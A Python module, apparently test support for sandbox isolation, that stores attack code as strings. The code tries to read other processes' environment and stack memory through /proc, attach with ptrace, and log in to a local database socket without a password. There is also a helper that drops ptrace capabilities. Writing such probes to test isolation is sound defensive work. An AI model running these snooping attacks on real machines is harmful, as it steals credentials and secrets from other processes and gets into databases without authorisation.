"""Source code of attacks on other processes of the same user.

The attacker may be an agent without any packages, so this is text, not a module.
"""

from __future__ import annotations

import sys

SNOOPING_SOURCE = r'''
import ctypes, json, os, re, socket, struct, sys

libc = ctypes.CDLL(None, use_errno=True)

def attempt(act, *args):
    """Return the result of an attempt, or "refused: REASON"."""
    try:
        return act(*args)
    except OSError as error:
        return f"refused: {error.strerror}"

def checked(result):
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result

def environ(pid):
    with open(f"/proc/{pid}/environ", "rb") as file:
        return file.read().decode("latin-1")

def memory(pid):
    """Read the stack, which has the environment."""
    with open(f"/proc/{pid}/maps") as maps:
        stacks = [line for line in maps if line.endswith("[stack]\n")]
    if not stacks:
        raise PermissionError(13, "Permission denied")
    begin, end = (int(number, 16) for number in stacks[0].split()[0].split("-"))
    with open(f"/proc/{pid}/mem", "rb", 0) as file:
        file.seek(begin)
        return file.read(end - begin).decode("latin-1")

def files(pid):
    return os.readlink(f"/proc/{pid}/fd/0")

def attach(pid):
    PTRACE_SEIZE = 0x4206
    checked(libc.ptrace(PTRACE_SEIZE, pid, None, None))
    return "attached"

def pry(pid):
    """Try all attacks on a process."""
    return {act.__name__: attempt(act, pid) for act in (environ, memory, files, attach)}

def processes():
    """Return the visible processes; none without access to /proc."""
    try:
        return [int(name) for name in os.listdir("/proc") if name.isdigit()]
    except OSError:
        return []

def grandparent():
    """Return the parent of the parent process, an agent's worker; 0 if it is not visible."""
    try:
        with open(f"/proc/{os.getppid()}/stat") as file:
            return int(file.read().rpartition(")")[2].split()[1])
    except OSError:
        return 0

def knock(path):
    """Log in to the server behind a socket without a password."""
    words = b"".join(word + b"\0" for word in (b"user", b"draftsman", b"database", b"draftsman"))
    with socket.socket(socket.AF_UNIX) as server:
        server.settimeout(10)
        server.connect(path)
        server.sendall(struct.pack("!ii", len(words) + 9, 196608) + words + b"\0")
        kind, _, code = struct.unpack("!cii", server.recv(9))
    return "let in" if (kind, code) == (b"R", 0) else f"refused: asked for {code}"
'''
DROP_PTRACE = """
import ctypes, os, sys
PR_CAPBSET_DROP, CAP_SYS_PTRACE, CAP_SYS_ADMIN, CAP_PERFMON = 24, 19, 21, 38
for capability in (CAP_SYS_PTRACE, CAP_SYS_ADMIN, CAP_PERFMON):
    ctypes.CDLL(None).prctl(PR_CAPBSET_DROP, capability, 0, 0, 0)
os.execv(sys.argv[1], sys.argv[1:])
"""
WITHOUT_PTRACE = (sys.executable, "-c", DROP_PTRACE)
"""Starts a program without root's capabilities to inspect processes, so that the kernel applies the
rules for an ordinary user."""
